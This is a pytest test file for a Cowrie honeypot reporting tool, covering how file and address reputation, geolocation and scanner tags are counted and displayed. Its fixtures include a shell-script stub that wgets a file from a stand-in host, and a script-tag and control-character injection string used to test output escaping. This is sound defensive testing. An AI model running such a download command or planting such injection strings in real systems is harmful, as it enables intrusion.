"""What is known of files and addresses, on both engines: counted, told beside what the report lists, left out."""

import json
import re
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from cowrie_assets.clock import to_us
from cowrie_assets.enrichment.answers import Answer, Kind, Said, Status
from cowrie_assets.enrichment.downloads import examine_downloads
from cowrie_assets.enrichment.places import Place, PlaceSource
from cowrie_assets.reports.agreement import disagreements
from cowrie_assets.reports.checks import check_reports, check_written_reports
from cowrie_assets.reports.document import build_report
from cowrie_assets.reports.files import write_reports
from cowrie_assets.reports.periods import parse_period
from cowrie_assets.reports.scoped_sql import Counted, scoped_source
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets_tests.enrichment.judging import judge, of_address, of_file, place, tag
from cowrie_assets_tests.reports.facts import Facts, Login, Session, StoredFile
from cowrie_assets_tests.reports.test_document import DAY, LATER, MONDAY, report

HASH, OTHER, OLD = "aa" * 32, "bb" * 32, "cc" * 32
NEAR, FAR, SCAN, NOWHERE = "192.0.2.1", "198.51.100.2", "203.0.113.3", "2001:db8::4"
IN = (Login("root", "x", 0, 1),)
HOSTILE = "<script>\x1b[2J\u202e" + "x" * 300


def us(days: int) -> int:
    return to_us(datetime(2026, 8, 31, tzinfo=UTC) + timedelta(days=days))


@pytest.fixture
def stored(warehouse: Warehouse) -> Warehouse:
    """Sessions of a day from four addresses, of which services, databases and lists say something."""
    sessions = [
        *(Session(MONDAY, src_ip=NEAR, logins=IN, commands={"near": 1}, files=(StoredFile(HASH),)) for _ in range(3)),
        *(Session(MONDAY, src_ip=FAR, logins=IN, files=(StoredFile(OTHER),)) for _ in range(2)),
        *(Session(MONDAY, src_ip=SCAN, commands={"scan": 9}) for _ in range(4)),
        Session(MONDAY, src_ip=NOWHERE, files=(StoredFile(OLD),)),
        Session(MONDAY - timedelta(days=9), src_ip="192.0.2.99", files=(StoredFile(OLD),)),
    ]
    Facts(warehouse).store(sessions)
    judge(
        warehouse,
        of_file(
            HASH, label="trojan.mirai", description="ELF", positives=41, total=70, first_seen=us(3), data={"size": 9}
        ),
        of_file(OLD, label="miner", positives=3, total=70, first_seen=us(-20)),
        Answer(Kind.FILE, OTHER, "malwarebazaar", Status.ENRICHED, 1, Said(True, label=HOSTILE)),
        of_file(OTHER, None),
        of_address(NEAR),
        of_address(FAR, False),
        of_address(FAR, None, provider="spur", label="VPN"),
        of_address(SCAN, True, provider="urlhaus", label="mozi"),
        now=us(5),
    )
    place(warehouse, {NEAR: Place("NL", 64_500, "Example", "Delft"), FAR: Place("CN"), SCAN: Place("NL", 64_501)})
    place(warehouse, {FAR: Place("US", 64_500, "Not believed")}, PlaceSource.CYMRU)
    tag(warehouse, {SCAN: [("census", "scanner"), ("uni", "researcher")], NOWHERE: [("drop", "blocklist")]})
    return warehouse


def test_what_is_known_is_counted_in_sessions_and_addresses(stored: Warehouse) -> None:
    document = report(stored)
    known = document["enrichments"]
    assert known["places"] == {
        "addresses": 3,
        "without_country": 1,
        "countries": [
            {"country": "NL", "sessions": 7, "addresses": 2},
            {"country": "CN", "sessions": 2, "addresses": 1},
        ],
        "autonomous_systems": [
            {"asn": 64_500, "name": "Example", "sessions": 5, "addresses": 2},
            {"asn": 64_501, "name": None, "sessions": 4, "addresses": 1},
        ],
    }
    assert known["tags"] == {
        "known_scanners": {"sessions": 4, "addresses": 1, "percent": 40.0, "left_out": False},
        "kinds": [
            {"kind": "researcher", "sessions": 4, "addresses": 1},
            {"kind": "scanner", "sessions": 4, "addresses": 1},
            {"kind": "blocklist", "sessions": 1, "addresses": 1},
        ],
        "lists": [
            {"list": "census", "kind": "scanner", "sessions": 4, "addresses": 1},
            {"list": "uni", "kind": "researcher", "sessions": 4, "addresses": 1},
            {"list": "drop", "kind": "blocklist", "sessions": 1, "addresses": 1},
        ],
    }
    services = {(each["kind"], each["service"]): (each["answered"], each["malicious"]) for each in known["services"]}
    assert services == {
        ("file", "malwarebazaar"): (1, 1),
        ("file", "virustotal"): (3, 2),
        ("address", "dshield"): (2, 1),
        ("address", "spur"): (1, 0),
        ("address", "urlhaus"): (1, 1),
    }
    assert (known["addresses"]["judged"], known["addresses"]["dshield_flagged"]) == (2, 1)
    assert disagreements(document) == []


def test_what_is_known_stands_beside_what_the_report_lists(stored: Warehouse) -> None:
    known = report(stored)["enrichments"]
    files = {each["shasum"]: each for each in known["files"]["known"]}
    assert files[HASH] == {
        "shasum": HASH,
        "label": "trojan.mirai",
        "type": "ELF",
        "size": 9,
        "positives": 41,
        "total": 70,
        "first_submitted": "2026-09-03T00:00:00.000000Z",
        "malicious_by": ["virustotal"],
        "malicious_since": "2026-09-05T00:00:00.000000Z",
        "days_before_virustotal": 3,
    }
    assert (files[OTHER]["label"], files[OTHER]["malicious_by"]) == (HOSTILE[:256], ["malwarebazaar"])
    assert (files[OLD]["first_submitted"][:10], files[OLD]["days_before_virustotal"]) == ("2026-08-11", None)
    assert [
        (each["address"], each["country"], each["asn"], each["listed_by"]) for each in known["addresses"]["known"]
    ] == [
        (SCAN, "NL", 64_501, ["urlhaus"]),
        (NEAR, "NL", 64_500, ["dshield"]),
        (FAR, "CN", 64_500, []),
        (NOWHERE, None, None, []),
    ]
    assert known["addresses"]["known"][0]["tags"] == [
        {"list": "census", "kind": "scanner"},
        {"list": "uni", "kind": "researcher"},
    ]


def test_what_no_service_says_of_a_file_its_bytes_do(stored: Warehouse, tmp_path: Path) -> None:
    content = b"#!/bin/sh\nwget http://192.0.2.7/a\n"
    shasum = sha256(content).hexdigest()
    (tmp_path / shasum).write_bytes(content)
    Facts(stored).store([Session(MONDAY, files=(StoredFile(shasum),))])
    before = report(stored)["enrichments"]
    assert before["files"]["known"] == []
    examine_downloads(stored, [tmp_path], now_us=us(5))
    (known,) = report(stored)["enrichments"]["files"]["known"]
    assert (known["shasum"], known["size"], known["label"]) == (shasum, len(content), None)
    assert "script" in known["type"]
    assert report(stored)["enrichments"]["verdicts_as_of"] == "2026-09-05T00:00:00.000000Z"


def test_a_file_is_known_to_be_malicious_since_a_service_began_to_say_so_without_a_break(stored: Warehouse) -> None:
    judge(stored, of_file(HASH, False, at=2), now=us(6))
    judge(stored, of_file(HASH, True, label="again", at=3), now=us(7))
    judge(stored, of_file(HASH, True, label="renamed", at=4), now=us(8))
    (known,) = [each for each in report(stored)["enrichments"]["files"]["known"] if each["shasum"] == HASH]
    assert known["malicious_since"] == "2026-09-07T00:00:00.000000Z"


def test_a_sensor_sees_its_own_share(stored: Warehouse) -> None:
    document = report(stored, sensor="hp-1")
    assert document["enrichments"] == report(stored)["enrichments"]
    assert disagreements(document) == []


def test_top_lists_leave_known_scanners_out_and_nothing_else_does(stored: Warehouse) -> None:
    with stored.read() as connection:
        hiding: Any = build_report(connection, DAY, None, now_us=LATER, without_known_scanners=True)
    whole: Any = report(stored)
    assert [item["value"] for item in hiding["sources"]["top_ips"]] == [NEAR, FAR, NOWHERE]
    assert [item["value"] for item in hiding["commands"]["top_commands"]] == ["near"]
    assert hiding["commands"]["total"] == whole["commands"]["total"] == 39
    assert hiding["enrichments"]["tags"]["known_scanners"] == {
        **whole["enrichments"]["tags"]["known_scanners"],
        "left_out": True,
    }
    for name in ("sessions", "volume", "new", "changes", "interesting", "abnormal", "operations"):
        assert hiding[name] == whole[name], name
    assert disagreements(hiding) == []


def test_alerts_tell_malicious_files_that_are_new_here_and_listed_addresses_that_logged_in(stored: Warehouse) -> None:
    alerts = {alert["kind"]: alert for alert in report(stored)["alerts"]}
    malicious, logged_in = alerts["malicious_file"], alerts["listed_address_logged_in"]
    assert (malicious["severity"], malicious["figures"]) == ("high", {"files": 2, "first": [HASH, OTHER]})
    assert (
        '2 malicious files not seen in the 30 days before: "trojan.mirai" (41 of 70 engines), "<script>'
        in (malicious["message"])
    )
    assert malicious["message"].isprintable()
    assert (logged_in["severity"], logged_in["figures"]) == ("low", {"addresses": 1, "sessions": 3, "first": [NEAR]})


def test_the_keys_of_the_older_tools_are_filled(stored: Warehouse) -> None:
    document: Any = report(stored, parse_period("weekly", "2026-W36"))
    assert document["legacy"]["enrichments"] == {
        "urlhaus_tags_top": [{"value": "mozi", "count": 1}],
        "asn_top": [{"value": "AS64500 Example", "count": 5}, {"value": "AS64501", "count": 4}],
        "country_top": [{"value": "NL", "count": 7}, {"value": "CN", "count": 2}],
        "spur_infrastructure_top": [{"value": "VPN", "count": 1}],
        "flagged": [
            {"type": "ip", "value": SCAN, "by": ["urlhaus"]},
            {"type": "ip", "value": NEAR, "by": ["dshield"]},
            {"type": "file", "value": HASH, "by": ["virustotal"]},
            {"type": "file", "value": OTHER, "by": ["malwarebazaar"]},
            {"type": "file", "value": OLD, "by": ["virustotal"]},
        ],
    }


def test_reports_without_known_scanners_are_validated_as_they_were_written(stored: Warehouse, tmp_path: Path) -> None:
    for period in (parse_period(kind, label) for kind, label in (("daily", "2026-08-31"), ("weekly", "2026-W36"))):
        write_reports(stored, period, tmp_path, top=2, without_known_scanners=True, now_us=LATER)
    results = check_reports(stored, report_dir=tmp_path) + check_written_reports(stored, tmp_path)
    assert [result for result in results if not result.passed] == []
    written = json.loads((tmp_path / "weekly" / "2026-W36" / "aggregate.json").read_text())
    assert "previous_rank" not in written["sources"]["top_ips"][0]
    told = "Known scanners made 4 sessions (40.0 %) from 1 address, which the top lists leave out."
    page = tmp_path / "weekly" / "2026-W36" / "aggregate"
    assert told in page.with_suffix(".txt").read_text()
    assert told in page.with_suffix(".html").read_text()


def test_pages_of_files_and_addresses_tell_what_others_say_harmlessly(stored: Warehouse, tmp_path: Path) -> None:
    place(stored, {NEAR: Place("NL", 64_500, HOSTILE[:256], "<i>Delft")})
    judge(stored, of_address(NEAR, True, provider="abuseipdb", label=HOSTILE, description=HOSTILE, at=9))
    write_reports(stored, DAY, tmp_path, now_us=LATER)
    pages = [path.read_text() for path in (tmp_path / "daily" / DAY.label / "pages").glob("*.html")]
    of_file, of_near = (
        next(page for page in pages if f"<title>Cowrie {what}" in page)
        for what in (f"file {HASH[:40]}", f"address {NEAR}")
    )
    for told in ("virustotal", "malicious", "trojan.mirai", "41 of 70", "2026-09-03 00:00:00"):
        assert told in of_file
    for told in ("abuseipdb", "dshield", "NL, &lt;i&gt;Delft, AS64500", "listed"):
        assert told in of_near
    for page in pages:
        assert "<script" not in page
        assert "\u202e" not in page


_LISTED = (
    *("origins", "known_addresses", "known_files", "malicious_files", "file_services", "enrichments"),
    *("examined_files", "sources", "files", "abnormal", "interesting"),
)
_WITHOUT_SCANNERS = ("credentials", "commands", "files", "sources", "clients", "tunnels")


@pytest.mark.parametrize(
    ("name", "without"), [*((name, False) for name in _LISTED), *((name, True) for name in _WITHOUT_SCANNERS)]
)
def test_what_a_report_lists_is_looked_up_in_what_is_known(warehouse: Warehouse, name: str, without: bool) -> None:
    """Services may have said something of a million addresses: no report goes through all of that. What is new is
    counted once, whether or not top lists leave scanners out."""
    if warehouse.dialect != "sqlite":
        pytest.skip("SQLite's words for a plan")
    sql = scoped_source(name, one_sensor=False, counted=Counted.TOPS_WITHOUT_SCANNERS if without else Counted.ALL)
    assert not (without and "SELECT 'new_" in sql)
    for bind, literal in (("IN :digests", "(x'00')"), ("IN :command_counts", "(1)")):
        sql = sql.replace(bind, f"IN {literal}")
    sql = re.sub(r"VALUES :own_forms", "VALUES (0, 0)", sql).replace("VALUES :trivial", "VALUES (0)")
    binds = dict.fromkeys(re.findall(r"(?<![:\w]):([a-z_]\w*)", sql), 7)
    with warehouse.read() as connection:
        plan = [row[3] for row in connection.execute(text(f"EXPLAIN QUERY PLAN {sql}"), binds)]
    known = [step for step in plan if re.match(r"(SEARCH|SCAN) [tvmd]\b", step)]
    assert known
    assert all("address_id=?" in step or "value_id=?" in step or "rowid" in step for step in known), known


def test_of_nothing_known_nothing_is_told(warehouse: Warehouse) -> None:
    Facts(warehouse).store([Session(MONDAY, src_ip=NEAR, files=(StoredFile(HASH),))])
    known: Any = report(warehouse)["enrichments"]
    assert (known["services"], known["files"]["known"], known["addresses"]["known"]) == ([], [], [])
    assert known["places"] == {"addresses": 0, "without_country": 1, "countries": [], "autonomous_systems": []}
    assert (known["tags"]["kinds"], known["tags"]["lists"]) == ([], [])
